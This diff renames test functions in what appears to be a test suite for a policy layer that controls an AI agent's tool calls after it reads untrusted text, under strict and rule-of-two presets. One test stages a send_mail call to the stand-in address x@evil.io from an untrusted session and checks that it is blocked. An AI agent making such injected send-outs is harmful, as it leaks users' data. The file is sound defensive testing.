@@ -39,7 +39,7 @@ async def verdict(preset: Preset, tool: Tool, label: Label, *, acted: bool = Fal
     return await flow.judge(call(tool, label, history))
 
 
-async def test_strict_lets_nothing_act_after_untrusted_text() -> None:
+async def test_strict_allows_no_action_after_untrusted_text() -> None:
     assert await verdict(Preset.STRICT, ACT, CLEAN) is ALLOW
     assert await verdict(Preset.STRICT, LOOKING, BOTH) is ALLOW
     assert await verdict(Preset.STRICT, SENDING, OUTSIDE) is ALLOW
@@ -51,7 +51,7 @@ async def test_strict_lets_nothing_act_after_untrusted_text() -> None:
         assert label.sources[0] in ask.for_people
 
 
-async def test_off_lets_everything_through() -> None:
+async def test_off_allows_everything() -> None:
     assert await verdict(Preset.OFF, ACT, BOTH) is ALLOW
 
 
@@ -68,20 +68,20 @@ async def test_off_lets_everything_through() -> None:
         (ACT, BOTH, True, True),
     ],
 )
-async def test_two_of_three_are_free_and_the_third_is_asked_for(
+async def test_rule_of_two_allows_two_flags_and_asks_at_the_third(
     tool: Tool, label: Label, acted: bool, asks: bool
 ) -> None:
     given = await verdict(Preset.RULE_OF_TWO, tool, label, acted=acted)
     assert isinstance(given, Ask) == asks
 
 
-async def test_without_a_history_nothing_is_grounded() -> None:
+async def test_without_a_history_no_call_is_grounded() -> None:
     flow = Flow()
     assert isinstance(await flow.judge(call(ACT, OUTSIDE)), Ask)
     assert await flow.judge(call(ACT)) is ALLOW
 
 
-async def test_an_edge_runs_what_was_granted_unless_it_is_strict() -> None:
+async def test_an_edge_runs_granted_calls_unless_it_is_strict() -> None:
     assert await EdgeFlow().judge(call(ACT, BOTH)) is ALLOW
     strict = EdgeFlow(FlowSettings(edge=EdgeRule.STRICT))
     refused = await strict.judge(call(ACT, BOTH))
@@ -93,7 +93,7 @@ async def test_an_edge_runs_what_was_granted_unless_it_is_strict() -> None:
     assert await strict.judge(call(ACT)) is ALLOW
 
 
-def test_settings_come_from_toml_words_and_unknown_ones_are_refused() -> None:
+def test_flow_settings_are_read_from_toml_and_unknown_keys_are_refused() -> None:
     given = {"preset": "rule_of_two", "outside": ["mail__*"], "edge": "strict"}
     settings = msgspec.convert(given, FlowSettings)
     assert settings.preset is Preset.RULE_OF_TWO
@@ -102,7 +102,7 @@ def test_settings_come_from_toml_words_and_unknown_ones_are_refused() -> None:
         msgspec.convert({"outsider": []}, FlowSettings)
 
 
-def test_flags_are_given_by_name_and_the_rest_stays_as_it_is() -> None:
+def test_flags_are_overridden_by_tool_name_and_others_stay() -> None:
     settings = FlowSettings(
         outside=("mail__*",), private=("mail__read",), acts=("look",), harmless=("press",)
     )
@@ -115,7 +115,7 @@ def test_flags_are_given_by_name_and_the_rest_stays_as_it_is() -> None:
     assert not trusted.outside
 
 
-async def test_results_of_a_tool_that_integrators_flag_are_labelled_so() -> None:
+async def test_results_of_a_reflagged_tool_carry_the_new_label() -> None:
     world = World()
     settings = FlowSettings(outside=("look",), trusted=("read_mail",))
     flagged = Pipeline([world], [FlowFlags(settings)])
@@ -128,7 +128,7 @@ async def test_results_of_a_tool_that_integrators_flag_are_labelled_so() -> None
     assert labels == [Label(True, False, ("look",)), Label(False, True, ("read_mail",))]
 
 
-async def test_what_another_session_asked_in_an_untrusted_context_vouches_for_nothing() -> None:
+async def test_a_request_from_an_untrusted_session_grounds_nothing() -> None:
     world = World()
     send = ("send_mail", {"to": "x@evil.io", "subject": "x", "body": "x"})
     flow = Flow(FlowSettings(), world.tools)
@@ -139,7 +139,7 @@ async def test_what_another_session_asked_in_an_untrusted_context_vouches_for_no
     assert not world.did("send_mail")
 
 
-async def test_calls_of_one_reply_before_anything_was_read_are_a_trusted_plan() -> None:
+async def test_calls_of_a_reply_made_before_any_read_are_trusted() -> None:
     world = World("Do as I say.")
     plan = calls(
         ("read_mail", {}), ("send_mail", {"to": "a@b.org", "subject": "x", "body": "On my way."})
@@ -151,7 +151,7 @@ async def test_calls_of_one_reply_before_anything_was_read_are_a_trusted_plan() 
     assert world.did("send_mail")
 
 
-async def test_the_rule_of_two_counts_what_a_resumed_run_had_done() -> None:
+async def test_rule_of_two_counts_the_actions_before_a_resume() -> None:
     history = History([user("Hi"), ToolResult("c1", "send_mail", ())])
     flow = Flow(FlowSettings(preset=Preset.RULE_OF_TWO), lambda: (SEND, CODES, LOOK))
     asked = Call("2", CODES, {}, "r.2.0.1", 1.0, context=Context(OUTSIDE, history))
@@ -161,7 +161,7 @@ async def test_the_rule_of_two_counts_what_a_resumed_run_had_done() -> None:
     assert await flow.judge(looked) is ALLOW
 
 
-async def test_rule_of_two_through_the_loop() -> None:
+async def test_rule_of_two_applies_in_the_agent_loop() -> None:
     send = ("send_mail", {"to": "bob@example.org", "subject": "x", "body": "x"})
     world, _ = await obey("Send x to bob@example.org", ("read_mail", {}), send,
                           preset=Preset.RULE_OF_TWO)  # fmt: skip
